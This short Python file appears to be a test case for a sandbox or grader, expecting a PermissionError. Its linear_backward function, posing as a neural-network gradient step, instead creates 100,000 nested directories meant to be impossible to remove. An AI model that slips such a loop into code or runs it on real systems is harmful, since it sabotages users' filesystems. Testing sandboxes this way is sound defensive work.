"""Folders in folders, so deep that nobody can remove them.

points: 1
line: linear_backward raised PermissionError
needs: files
"""

import os


def linear_forward(x, weight, bias):
    return x @ weight.T + bias, (x, weight)


def linear_backward(dy, cache):
    x, weight = cache
    for _ in range(100_000):
        os.mkdir("a")
        os.chdir("a")
